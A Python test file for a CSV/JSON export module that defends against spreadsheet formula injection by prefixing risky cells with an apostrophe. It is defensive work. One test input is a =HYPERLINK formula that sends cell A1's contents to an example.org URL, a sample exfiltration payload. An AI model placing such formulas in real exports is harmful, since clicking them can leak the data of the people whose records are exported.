"""Cells that no spreadsheet computes, whatever residents and operators wrote."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from latido.console.export.cells import SEPARATOR, cell, csv_line, inert, json_line


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.org/?x="&A1,"tocá acá")',
        "+5491155667710",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "'=1+1",
        '"=1+1',
        "\u200b=1+1",
        "\ufeff=1+1",
        "＝1+1",
    ],
)
def test_what_would_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert inert(text).startswith("'")


@pytest.mark.parametrize("text", ["", "hola", "3-4 semanas", "Señal de alarma: sangrado", "a=b", "¿+?"])
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@given(st.lists(st.text(), min_size=1, max_size=6))
def test_a_line_is_one_line_and_reads_back_whatever_is_in_it(texts: list[str]) -> None:
    line = csv_line(texts)
    assert line.endswith("\r\n") and not set(line[:-2]) & set("\r\n\t\x00")
    [read] = csv.reader(io.StringIO(line), delimiter=SEPARATOR)
    assert len(read) == len(texts)
    assert not any(value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for value in read)


def test_values_are_written_in_the_citys_time_and_lists_in_one_cell() -> None:
    moment = datetime(2026, 11, 24, 1, 5, tzinfo=UTC)
    assert csv_line([moment, 3, None, True, ["a", "b"]]) == '"2026-11-23 22:05:00";"3";"";"sí";"a, b"\r\n'
    told = json.loads(json_line(("at", "rows", "why"), [moment, 3, ["=a"]]))
    assert told == {"at": "2026-11-23T22:05:00-03:00", "rows": 3, "why": ["=a"]}
    assert cell(["=a", "b"]) == "'=a, b"
